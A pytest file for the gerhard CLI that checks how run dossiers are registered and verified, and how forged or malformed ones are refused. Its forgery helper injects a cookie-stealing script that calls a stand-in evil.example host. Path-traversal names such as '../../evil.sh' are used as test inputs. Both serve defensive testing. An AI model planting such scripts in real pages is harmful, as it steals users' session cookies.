"""End-to-end: `gerhard register --dossier`: one downloaded file is enough to register a run.

Bundle → dossier → register → outputs/<run_id>/ is byte-identical; registering by folder or by
dossier is the same run; the archived dossier is the one gerhard builds from the verified bundle,
never the page as it came; every bad dossier is refused with one line, exit 2, and the repository
exactly as before.
"""

from __future__ import annotations

import re
import shutil
from pathlib import Path
from typing import Any

import pytest
from cli_helpers import assert_one_line_error, git_out, head_sha, load_yaml, run, trailer
from conftest import snapshot
from dossier_helpers import RUN_A, RUN_B, add_file, bundle_folder, embedded, make_dossier, tamper

from gerhard import register_run
from gerhard.dossier import codec as dossier_bundle
from gerhard.dossier import page as dossier
from gerhard.dossier.codec import read_dossier
from gerhard.errors import UserError
from gerhard.flows.registration import with_folder_dossier
from gerhard.registry.bundle import load_bundle

DOSSIER_A = f"run_dossier_{RUN_A}.html"
DOSSIER_B = f"run_dossier_{RUN_B}.html"


def register_dossier(capsys: pytest.CaptureFixture[str], repo: Path, dossier: Path, *extra: str | Path) -> Any:
    return run(capsys, "register", "--repo", repo, "--dossier", dossier, *extra)


def record_of(repo: Path, run_id: str) -> dict[str, Any]:
    return load_yaml(repo / "state" / "runs" / f"{run_id}.yaml")


@pytest.fixture
def folder_a(tmp_path: Path) -> Path:
    folder = bundle_folder(tmp_path, "phase_a_green", RUN_A)
    (folder / "plots").mkdir()
    (folder / "plots" / "loss.png").write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 8)
    (folder / "notes.md").write_text("line one\r\nline two </script> \u2028 ü\n", encoding="utf-8")
    return folder


@pytest.fixture
def dossier_a(folder_a: Path, tmp_path: Path) -> Path:
    """The dossier alone, as downloaded (away from its folder)."""
    built = make_dossier(folder_a, phase="A", summary="dense baseline", next_action="start phase B")
    downloads = tmp_path / "Downloads"
    downloads.mkdir()
    return Path(shutil.move(built, downloads / built.name))


@pytest.fixture
def green_a(registry: Path, bundle_a: Path, capsys: pytest.CaptureFixture[str]) -> Path:
    """A registry whose phase A has passed, so phase B is open."""
    assert (
        run(capsys, "register", "--repo", registry, "--run-id", "a0", "--phase", "A", "--source-dir", bundle_a).rc == 0
    )
    return registry


def test_round_trip_is_byte_identical(registry: Path, folder_a: Path, dossier_a: Path, tmp_path: Path, capsys) -> None:
    # What gerhard archives: the dossier it builds from the bundle against the registry, as it is now.
    rebuilt = make_dossier(
        folder_a, "A", repo_root=registry, summary="dense baseline", next_action="start phase B", output=tmp_path
    ).read_bytes()
    result = register_dossier(capsys, registry, dossier_a, "--phase", "A")
    assert result.rc == 0, result.err
    archive = registry / "outputs" / RUN_A
    original = load_bundle(folder_a)
    for f in original.files:
        assert (archive / f.path).read_bytes() == (folder_a / f.path).read_bytes(), f.path
    assert (archive / DOSSIER_A).read_bytes() == rebuilt != dossier_a.read_bytes()  # that one is not evaluated
    on_disk = sorted(p.relative_to(archive).as_posix() for p in archive.rglob("*") if p.is_file())
    assert on_disk == sorted([*original.names(), "MANIFEST", DOSSIER_A])
    assert load_bundle(archive).sha256 == original.sha256 == trailer(registry, "Gerhard-Bundle-SHA256")
    committed = git_out(registry, "show", "--name-only", "--format=", "HEAD").split()
    assert f"outputs/{RUN_A}/{DOSSIER_A}" in committed
    assert git_out(registry, "status", "--porcelain", "--untracked-files=all") == ""


def test_run_id_phase_summary_and_next_action_come_from_the_dossier(registry: Path, dossier_a: Path, capsys) -> None:
    result = register_dossier(capsys, registry, dossier_a)
    assert result.rc == 0, result.err
    assert f"run {RUN_A} (phase A): GREEN" in result.out
    record = record_of(registry, RUN_A)
    assert (record["summary"], record["next_action"], record["dossier"]) == (
        "dense baseline",
        "start phase B",
        DOSSIER_A,
    )
    assert trailer(registry, "Gerhard-Run-Id") == RUN_A


def test_summary_given_on_the_command_line_wins(registry: Path, dossier_a: Path, capsys) -> None:
    result = register_dossier(capsys, registry, dossier_a, "--run-id", RUN_A, "--summary", "mine", "--next-action", "x")
    assert result.rc == 0, result.err
    assert (record_of(registry, RUN_A)["summary"], record_of(registry, RUN_A)["next_action"]) == ("mine", "x")


def test_the_run_report_links_the_archived_dossier(registry: Path, dossier_a: Path, capsys) -> None:
    assert register_dossier(capsys, registry, dossier_a).rc == 0
    record = record_of(registry, RUN_A)
    report = registry / "reports" / record["registered_at"][:4] / record["registered_at"][5:7] / f"{RUN_A}.md"
    link = f"dossier: [{DOSSIER_A}](../../../outputs/{RUN_A}/{DOSSIER_A})"
    assert link in report.read_text()
    assert (report.parent / "../../../outputs" / RUN_A / DOSSIER_A).resolve().is_file()
    assert run(capsys, "rebuild", "--repo", registry, "--check").rc == 0  # the link survives a rebuild


def test_a_red_phase_b_dossier(green_a: Path, tmp_path: Path, capsys) -> None:
    dossier = make_dossier(bundle_folder(tmp_path, "phase_b_red", RUN_B), phase="B")
    result = register_dossier(capsys, green_a, dossier, "--fail-on-red")
    assert result.rc == 1 and f"run {RUN_B} (phase B): RED" in result.out
    assert (green_a / "state" / "needs_input" / f"{RUN_B}.yaml").is_file()
    archived = (green_a / "outputs" / RUN_B / DOSSIER_B).read_bytes()
    assert b'<span class="badge RED" id="verdict">RED</span>' in archived
    assert b'<span class="badge" id="verdict">not evaluated</span>' in dossier.read_bytes()


# --- the archived dossier is gerhard's own ----------------------------------------------------

TRUE_BADGE = b'<span class="badge RED" id="verdict">RED</span>'
FORGED_BADGE = b'<span class="badge GREEN" id="verdict">GREEN</span>'
SCRIPT = b"<script>fetch('https://evil.example/?'+document.cookie)</script>"


def forge(path: Path) -> Path:
    """Edit the page around a verified bundle block: a GREEN badge, and a script outside the block."""
    data, badges = re.subn(rb'<span class="badge[^"]*" id="verdict">[^<]*</span>', FORGED_BADGE, path.read_bytes())
    assert badges == 1
    path.write_bytes(data.replace(b"</head>", SCRIPT + b"\n</head>"))
    assert read_dossier(path)[0].run_id == RUN_B  # the bundle still verifies
    return path


def test_a_forged_page_is_archived_as_gerhard_builds_it(green_a: Path, tmp_path: Path, capsys) -> None:
    dossier = forge(make_dossier(bundle_folder(tmp_path, "phase_b_red", RUN_B), phase="B"))
    result = register_dossier(capsys, green_a, dossier)
    assert result.rc == 0 and f"run {RUN_B} (phase B): RED" in result.out
    archived = (green_a / "outputs" / RUN_B / DOSSIER_B).read_bytes()
    assert FORGED_BADGE not in archived and SCRIPT not in archived and b"evil.example" not in archived
    assert b"<script" not in archived.replace(b'<script type="application/json" id="gerhard-bundle">', b"")
    assert archived.count(TRUE_BADGE) == 1 and b"(phase B)" in archived
    assert git_out(green_a, "show", f"HEAD:outputs/{RUN_B}/{DOSSIER_B}").encode() == archived


def test_a_forged_page_in_the_folder_is_not_archived_as_it_came(green_a: Path, tmp_path: Path, capsys) -> None:
    folder = bundle_folder(tmp_path, "phase_b_red", RUN_B)
    forge(make_dossier(folder, phase="B"))
    result = run(capsys, "register", "--repo", green_a, "--run-id", RUN_B, "--phase", "B", "--source-dir", folder)
    assert result.rc == 0, result.err
    archived = (green_a / "outputs" / RUN_B / DOSSIER_B).read_bytes()
    assert FORGED_BADGE not in archived and SCRIPT not in archived
    assert read_dossier(green_a / "outputs" / RUN_B / DOSSIER_B)[0].bundle_sha256 == load_bundle(folder).sha256


def test_the_folder_dossier_is_built_with_the_registry_and_the_runs_text(green_a: Path, tmp_path: Path) -> None:
    folder = bundle_folder(tmp_path, "phase_b_red", RUN_B)
    forge(make_dossier(folder, phase="B", summary="from the notebook"))
    files, extra = with_folder_dossier(
        load_bundle(folder), RUN_B, {}, {}, root=green_a, phase="B", summary="given", next_action="rerun"
    )
    assert list(files) == [DOSSIER_B] and extra == {"dossier": DOSSIER_B}
    page = files[DOSSIER_B]
    assert TRUE_BADGE in page and FORGED_BADGE not in page and SCRIPT not in page
    assert b"<p>given</p>" in page and b"from the notebook" not in page and b"rerun</p>" in page


def test_a_folder_registered_from_outside_archives_an_evaluated_dossier(green_a: Path, tmp_path: Path, capsys) -> None:
    folder = bundle_folder(tmp_path, "phase_b_red", RUN_B)
    unevaluated = make_dossier(folder, phase="B", summary="from the notebook").read_bytes()
    assert b'<span class="badge" id="verdict">not evaluated</span>' in unevaluated
    argv = ["register", "--repo", green_a, "--run-id", RUN_B, "--phase", "B", "--source-dir", folder]
    result = run(capsys, *argv, "--summary", "given on the command line")
    assert result.rc == 0, result.err
    archived = (green_a / "outputs" / RUN_B / DOSSIER_B).read_bytes()
    assert TRUE_BADGE in archived and b"not evaluated" not in archived
    assert b"given on the command line" in archived and b"from the notebook" not in archived


def test_a_dossier_gerhard_built_against_the_registry_is_archived_as_it_came(
    green_a: Path, tmp_path: Path, capsys
) -> None:
    folder = bundle_folder(tmp_path, "phase_b_red", RUN_B)
    built = make_dossier(folder, "B", repo_root=green_a, summary="s", next_action="n", output=tmp_path / "d.html")
    assert TRUE_BADGE in built.read_bytes()
    assert register_dossier(capsys, green_a, built).rc == 0
    assert (green_a / "outputs" / RUN_B / DOSSIER_B).read_bytes() == built.read_bytes()


def test_registering_again_builds_nothing(
    registry: Path, dossier_a: Path, capsys, monkeypatch: pytest.MonkeyPatch
) -> None:
    assert register_dossier(capsys, registry, dossier_a).rc == 0
    before = snapshot(registry)

    def no_build(*args: Any) -> bytes:
        raise AssertionError("a dossier was built for a run already registered")

    monkeypatch.setattr(dossier, "dossier_page", no_build)
    again = register_dossier(capsys, registry, dossier_a)
    assert again.rc == 0 and "already registered (no change)" in again.out
    assert snapshot(registry) == before


def test_python_api_registers_a_dossier(registry: Path, dossier_a: Path) -> None:
    result = register_run(dossier=dossier_a, repo_root=registry)
    assert (result.run_id, result.phase, result.verdict, result.commit) == (RUN_A, "A", "GREEN", head_sha(registry))
    with pytest.raises(UserError, match="needs exactly one of source_dir="):
        register_run(run_id=RUN_A, phase="A", repo_root=registry)
    with pytest.raises(UserError, match="needs exactly one of source_dir="):
        register_run(source_dir=dossier_a.parent, dossier=dossier_a, repo_root=registry)
    with pytest.raises(UserError, match="needs run_id= and phase="):
        register_run(source_dir=dossier_a.parent, repo_root=registry)


# --- same run by folder or by dossier ---------------------------------------------------------


def test_dossier_then_folder_is_a_no_op(registry: Path, folder_a: Path, dossier_a: Path, capsys) -> None:
    assert register_dossier(capsys, registry, dossier_a).rc == 0
    before = snapshot(registry)
    again = run(capsys, "register", "--repo", registry, "--run-id", RUN_A, "--phase", "A", "--source-dir", folder_a)
    assert again.rc == 0 and "already registered (no change)" in again.out
    assert snapshot(registry) == before


def test_folder_then_dossier_is_a_no_op(registry: Path, folder_a: Path, dossier_a: Path, capsys) -> None:
    shutil.copy(dossier_a, folder_a / DOSSIER_A)  # the notebook put the dossier in the folder (Step 2)
    first = run(capsys, "register", "--repo", registry, "--run-id", RUN_A, "--phase", "A", "--source-dir", folder_a)
    assert first.rc == 0, first.err
    assert record_of(registry, RUN_A)["dossier"] == DOSSIER_A
    archived, _ = read_dossier(registry / "outputs" / RUN_A / DOSSIER_A)
    assert (archived.run_id, archived.bundle_sha256) == (RUN_A, load_bundle(folder_a).sha256)
    before = snapshot(registry)
    again = register_dossier(capsys, registry, dossier_a)
    assert again.rc == 0 and "already registered (no change)" in again.out
    assert snapshot(registry) == before


def test_the_dossier_does_not_change_the_bundle_identity(
    registry: Path, folder_a: Path, dossier_a: Path, capsys
) -> None:
    without = load_bundle(folder_a).sha256
    shutil.copy(dossier_a, folder_a / DOSSIER_A)
    assert load_bundle(folder_a).sha256 == without
    assert (
        run(capsys, "register", "--repo", registry, "--run-id", RUN_A, "--phase", "A", "--source-dir", folder_a).rc == 0
    )
    assert record_of(registry, RUN_A)["bundle_sha256"] == without


def test_the_archive_copied_back_with_its_dossier_is_a_no_op(
    registry: Path, dossier_a: Path, tmp_path: Path, capsys
) -> None:
    assert register_dossier(capsys, registry, dossier_a).rc == 0
    synced = shutil.copytree(registry / "outputs" / RUN_A, tmp_path / "synced")
    before = snapshot(registry)
    again = run(capsys, "register", "--repo", registry, "--run-id", RUN_A, "--phase", "A", "--source-dir", synced)
    assert again.rc == 0 and "already registered" in again.out
    assert snapshot(registry) == before


def test_same_run_id_with_other_content_is_refused(
    registry: Path, folder_a: Path, dossier_a: Path, tmp_path: Path, capsys
) -> None:
    assert register_dossier(capsys, registry, dossier_a).rc == 0
    (folder_a / "seed.txt").write_text("99\n")
    other = make_dossier(folder_a, phase="A", output=tmp_path / "other.html")
    before = snapshot(registry)
    result = register_dossier(capsys, registry, other)
    assert_one_line_error(result, f"run {RUN_A} is already registered with different content")
    assert snapshot(registry) == before


def test_the_notebook_writes_bundle_and_dossier_into_outputs_and_registers_in_place(registry: Path, capsys) -> None:
    in_place = bundle_folder(registry, "phase_a_green", RUN_A)
    in_place = Path(shutil.move(in_place, registry / "outputs" / RUN_A))
    make_dossier(in_place, phase="A")
    result = register_run(run_id=RUN_A, phase="A", source_dir=in_place, repo_root=registry)
    assert result.verdict == "GREEN" and record_of(registry, RUN_A)["dossier"] == DOSSIER_A
    assert b'<span class="badge GREEN" id="verdict">GREEN</span>' in (in_place / DOSSIER_A).read_bytes()
    assert git_out(registry, "status", "--porcelain", "--untracked-files=all") == ""


def test_a_forged_dossier_registered_in_place_is_refused_not_overwritten(green_a: Path, capsys) -> None:
    in_place = Path(shutil.move(bundle_folder(green_a, "phase_b_red", RUN_B), green_a / "outputs" / RUN_B))
    forged = forge(make_dossier(in_place, phase="B", repo_root=None)).read_bytes()
    before = snapshot(green_a)
    result = run(capsys, "register", "--repo", green_a, "--run-id", RUN_B, "--phase", "B", "--source-dir", in_place)
    assert_one_line_error(
        result,
        f"gerhard register: error: {DOSSIER_B} in {in_place} is not the dossier gerhard builds for this run (built "
        "with another summary, next action or registry state, or edited): delete it and register again",
    )
    assert snapshot(green_a) == before and (in_place / DOSSIER_B).read_bytes() == forged
    (in_place / DOSSIER_B).unlink()
    assert (
        run(capsys, "register", "--repo", green_a, "--run-id", RUN_B, "--phase", "B", "--source-dir", in_place).rc == 0
    )


def test_a_stale_dossier_in_the_folder_is_refused(registry: Path, folder_a: Path, capsys) -> None:
    make_dossier(folder_a, phase="A")
    (folder_a / "seed.txt").write_text("7\n")  # changed after the dossier was written
    before = snapshot(registry)
    result = run(capsys, "register", "--repo", registry, "--run-id", RUN_A, "--phase", "A", "--source-dir", folder_a)
    assert_one_line_error(result, f"{DOSSIER_A} in {folder_a} is the dossier of another run or other content")
    assert snapshot(registry) == before


def test_a_dossier_of_another_run_in_the_folder_is_refused(registry: Path, folder_a: Path, capsys) -> None:
    make_dossier(folder_a, phase="A")
    result = run(
        capsys, "register", "--repo", registry, "--run-id", "other_id", "--phase", "A", "--source-dir", folder_a
    )
    assert_one_line_error(result, f"(run {RUN_A}, bundle", "--run-id other_id' or remove it")


# --- bad dossiers: one line, exit 2, nothing changed -----------------------------------------


def _truncate_in_block(path: Path) -> None:
    data = path.read_bytes()
    path.write_bytes(data[: data.index(b'id="gerhard-bundle"') + 2000])


def _truncate_before_block(path: Path) -> None:
    data = path.read_bytes()
    path.write_bytes(data[: data.index(b'<section id="files">')])


def _strip_block(path: Path) -> None:
    html = path.read_text()
    path.write_text(html[: html.index("<script")] + "</body></html>\n")


def _tamper_data(path: Path) -> None:
    edit = lambda doc: next(f for f in doc["files"] if f["path"] == "metrics.json").update(  # noqa: E731
        data='{"final": {"val_loss": 0.01}}'
    )
    tamper(path, edit)


BAD = {
    "not html": (lambda p: p.write_bytes(b"\x89PNG\r\n\x1a\n..."), [], "is not an HTML dossier"),
    "no bundle block": (_strip_block, [], "is HTML but holds no embedded gerhard bundle"),
    "truncated in the bundle": (_truncate_in_block, [], "is truncated: its embedded bundle has no end"),
    "truncated before the bundle": (_truncate_before_block, [], "is truncated (it ends before </html>)"),
    "tampered content": (_tamper_data, [], "does not verify: metrics.json should be"),
    "tampered bundle hash": (lambda p: tamper(p, lambda d: d.update(bundle_sha256="a" * 64)), [], "does not verify"),
    "wrong phase": (None, ["--phase", "B"], "was built for phase A, not B: pass --phase A"),
    "run id disagrees": (None, ["--run-id", "20261101T090000Z_x"], f"is the dossier of run {RUN_A}, not 20261101"),
    "path traversal": (lambda p: tamper(p, lambda d: add_file(d, "../../evil.sh"), True), [], "unsafe file name"),
    "absolute path": (lambda p: tamper(p, lambda d: add_file(d, "/tmp/evil.sh"), True), [], "unsafe file name"),
    "duplicate name": (lambda p: tamper(p, lambda d: add_file(d, "seed.txt"), True), [], "embeds 'seed.txt' twice"),
    "not a plain file": (
        lambda p: tamper(p, lambda d: add_file(d, "seed.txt/x"), True),
        [],
        "embeds 'seed.txt' both as a file and as a folder",
    ),
    "symlink entry": (
        lambda p: tamper(p, lambda d: add_file(d, "l", type="symlink"), True),
        [],
        "embeds 'l' as a 'symlink', not a plain file",
    ),
    "not valid json": (
        lambda p: p.write_text(p.read_text().replace('{"format"', '{"format" oops', 1)),
        [],
        "the embedded bundle is not valid JSON",
    ),
    "missing file": (lambda p: p.unlink(), [], "does not exist or is not a file"),
}


@pytest.mark.parametrize("case", list(BAD))
def test_bad_dossiers_are_refused_and_change_nothing(registry: Path, dossier_a: Path, capsys, case: str) -> None:
    damage, args, words = BAD[case]
    if damage is not None:
        damage(dossier_a)
    before = snapshot(registry)
    result = register_dossier(capsys, registry, dossier_a, *args)
    assert_one_line_error(result, "gerhard register: error:", words)
    assert snapshot(registry) == before


def test_oversized_input_is_refused(registry: Path, dossier_a: Path, capsys, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(dossier_bundle, "MAX_DOSSIER_BYTES", 64 * 1024)
    before = snapshot(registry)
    result = register_dossier(capsys, registry, dossier_a)
    assert_one_line_error(result, "KiB, over the 64.0 KiB limit: register the run folder with --source-dir")
    assert snapshot(registry) == before


def test_a_dossier_without_its_big_files_is_refused(registry: Path, folder_a: Path, tmp_path: Path, capsys) -> None:
    dossier = make_dossier(folder_a, phase="A", embed_limit=1024, output=tmp_path / "d.html")
    before = snapshot(registry)
    result = register_dossier(capsys, registry, dossier)
    assert_one_line_error(result, "d.html does not embed", "plots/loss.png (2.0 KiB)", "--source-dir")
    assert snapshot(registry) == before


def test_errors_name_the_dossier_not_a_temporary_folder(green_a: Path, tmp_path: Path, capsys) -> None:
    folder = bundle_folder(tmp_path, "phase_b_green", RUN_B)
    (folder / "eval_suite.json").unlink()
    dossier = make_dossier(folder)  # no phase: the command line says B
    before = snapshot(green_a)
    result = register_dossier(capsys, green_a, dossier, "--phase", "B")
    assert_one_line_error(result, f"bundle {DOSSIER_B} (embedded bundle) is missing eval_suite.json")
    assert "gerhard-dossier-" not in result.err
    assert snapshot(green_a) == before


def test_a_dossier_without_a_phase_needs_one(registry: Path, folder_a: Path, capsys) -> None:
    result = register_dossier(capsys, registry, make_dossier(folder_a))
    assert_one_line_error(result, f"{DOSSIER_A} does not say which phase it is for: pass --phase")


def test_source_dir_and_dossier_are_exclusive_and_one_is_required(registry: Path, dossier_a: Path, capsys) -> None:
    both = register_dossier(capsys, registry, dossier_a, "--source-dir", dossier_a.parent)
    assert_one_line_error(both, "argument --source-dir: not allowed with argument --dossier")
    neither = run(capsys, "register", "--repo", registry, "--run-id", RUN_A, "--phase", "A")
    assert_one_line_error(neither, "one of the arguments --source-dir --dossier is required")
    no_id = run(capsys, "register", "--repo", registry, "--phase", "A", "--source-dir", dossier_a.parent)
    assert_one_line_error(no_id, "--run-id required: pass --run-id, --phase and --source-dir, or --dossier FILE")


def test_the_embedded_bundle_matches_what_was_registered(registry: Path, dossier_a: Path, capsys) -> None:
    assert register_dossier(capsys, registry, dossier_a).rc == 0
    manifest = {f["path"]: f["sha256"] for f in load_yaml(registry / "outputs" / RUN_A / "MANIFEST")["files"]}
    assert manifest == {f["path"]: f["sha256"] for f in embedded(dossier_a)["files"]}
